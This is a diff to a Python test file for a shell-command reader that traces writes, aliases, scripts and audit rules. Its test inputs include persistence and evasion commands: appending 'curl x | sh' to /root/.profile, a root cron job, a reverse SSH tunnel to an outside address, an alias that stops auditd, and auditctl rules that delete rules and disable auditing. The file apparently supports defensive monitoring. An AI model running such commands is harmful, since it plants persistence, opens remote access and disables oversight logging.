@@ -914,16 +914,17 @@ def test_find_exec_gives_each_found_file_a_path_under_its_starting_points():
 
 
 def test_files_python_code_writes_are_the_interpreters_writes():
-    """open(P, 'w'/'a') and Path(P).write_text: the file, what a literal writes there, and a script
-    so written is read when it is run."""
-    (cmd,) = reader.read("python3 -c \"open('/root/.profile', 'a').write('curl x | sh')\"")
+    """open(P, 'w'/'a') and Path(P).write_text: the file, what a literal writes there (read as what
+    it would run, as a shell's writes are), and a script so written is read again when it is run."""
+    cmd, *read = reader.read("python3 -c \"open('/root/.profile', 'a').write('curl x | sh')\"")
     assert cmd.writes == ["/root/.profile"] and cmd.written == "curl x | sh"
-    (cmd,) = reader.read("python3 -c \"import pathlib; pathlib.Path('/etc/cron.d/j').write_text('* * * * * root id')\"")
-    assert cmd.writes == ["/etc/cron.d/j"] and cmd.written == "* * * * * root id"
+    assert [(c.name, c.via) for c in read] == [(n, ("python code", "writes /root/.profile")) for n in ("curl", "sh")]
+    cmd, *read = reader.read("python3 -c \"import pathlib; pathlib.Path('/etc/cron.d/j').write_text('* * * * * root id')\"")
+    assert cmd.writes == ["/etc/cron.d/j"] and cmd.written == "* * * * * root id" and [c.name for c in read] == ["id"]
     assert reader.read("python3 -c \"print(open('/etc/hosts').read())\"")[0].writes == []
     assert reader.read("python -c \"import json; json.dump({}, open(name, 'w'))\"")[0].writes == []  # (a name not known)
     run = reader.read("python3 -c \"open('/tmp/r.sh', 'w').write('ssh -fNR 9:l:22 u@198.51.100.3')\"; sh /tmp/r.sh")
-    assert [c.via for c in run if c.name == "ssh"] == [("sh", "script /tmp/r.sh")]
+    assert [c.via for c in run if c.name == "ssh"] == [("python code", "writes /tmp/r.sh"), ("sh", "script /tmp/r.sh")]
 
 
 def test_ssh_input_is_the_script_of_a_remote_shell_reading_it():
@@ -1226,3 +1227,30 @@ def test_a_quoted_array_expansion_gives_each_element_as_a_word():
     assert find('t=(-R "1:l:22" h); ssh "${t[@]}"', "ssh").args == ["-R", "1:l:22", "h"]
     assert find('t=(a "b c"); printf "<%s>" "${t[@]}"', "printf").args == ["<%s>", "a", "b c"]
     assert find('printf "%s" "${unset[@]}"', "printf").args == ["%s", "${unset[@]}"]
+
+
+def test_an_alias_holding_shell_text_is_read_as_shell():
+    """bash puts an alias's text in place of its name and reads the line again."""
+    session = Session()
+    reader.read("alias ll='ls -la; sudo systemctl stop auditd >/dev/null 2>&1'", session)
+    cmds = reader.read("ll 'src dir/'", session)
+    assert [(c.name, c.args, c.via) for c in cmds if c.name in ("ls", "systemctl")] == [
+        ("ls", ["-la"], ("alias ll",)), ("systemctl", ["stop", "auditd", "src dir/"], ("alias ll", "sudo"))]
+    reader.read("alias g='git status'", session)
+    assert [(c.name, c.args) for c in reader.read("g -s", session)][0] == ("git", ["status", "-s"])
+
+
+def test_auditctl_rules_file_lines_are_auditctl_commands():
+    session = Session()
+    reader.read("printf -- '-D\\n-e 0\\n' > /tmp/r.rules", session)
+    cmds = reader.read("sudo auditctl -R /tmp/r.rules", session)
+    assert [(c.args, c.via[-1]) for c in cmds if c.name == "auditctl"][1:] == [
+        (["-D"], "rules /tmp/r.rules"), (["-e", "0"], "rules /tmp/r.rules")]
+
+
+def test_a_script_run_with_arguments_has_them_as_its_argv():
+    session = Session()
+    reader.read("printf '#!/usr/bin/env python3\\nimport socket\\n' > /tmp/s.py", session)
+    cmds = reader.read("/tmp/s.py a.safetensors", session)
+    assert [(c.args, c.via) for c in cmds if c.code is not None] == [
+        (["/tmp/s.py", "a.safetensors"], ("s.py", "script /tmp/s.py"))]
